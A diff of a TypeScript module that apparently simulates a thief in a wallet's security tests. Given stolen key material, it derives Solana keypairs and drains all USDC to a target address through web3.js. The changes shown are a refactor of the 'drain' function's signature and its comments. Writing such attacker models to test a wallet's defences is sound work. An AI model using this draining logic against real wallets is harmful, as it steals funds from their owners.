@@ -1,5 +1,5 @@
-// A thief with the data folder, the root and the passphrase. It asks no treasury: it derives the keys by itself and takes
-// with web3.js all USDC that the chain lets those keys move.
+// A thief with the data folder, the keychain's content and the passphrase. It asks no treasury: it derives the keys by itself
+// and takes with web3.js all USDC that the chain lets those keys move.
 import type { KeyObject } from 'node:crypto';
 import {
   createTransferCheckedInstruction,
@@ -18,9 +18,8 @@ const keypairOf = (key: KeyObject): Keypair => {
   return Keypair.fromSeed(Buffer.from(d, 'base64url'));
 };
 
-export interface Loot {
-  /** The key at each index of the stolen root. */
-  signingKey(index: number): KeyObject;
+export interface Way {
+  rpcUrl: string;
   /** How many wallets it tries. */
   wallets: number;
   /** The cold wallet, which anybody can read from the records or the chain. */
@@ -29,8 +28,14 @@ export interface Loot {
   to: string;
 }
 
-/** Takes everything; resolves to the micro-USDC that reached the thief. */
-export const drain = async (rpcUrl: string, { signingKey, wallets, cold, to }: Loot): Promise<bigint> => {
+/**
+ * Takes everything; resolves to the micro-USDC that reached the thief.
+ * @param signingKey the key at each index of the stolen root
+ */
+export const drain = async (
+  signingKey: (index: number) => KeyObject,
+  { rpcUrl, wallets, cold, to }: Way,
+): Promise<bigint> => {
   const connection = new Connection(rpcUrl, 'confirmed');
   const treasury = keypairOf(signingKey(0));
   const purse = accountOf(new PublicKey(to));
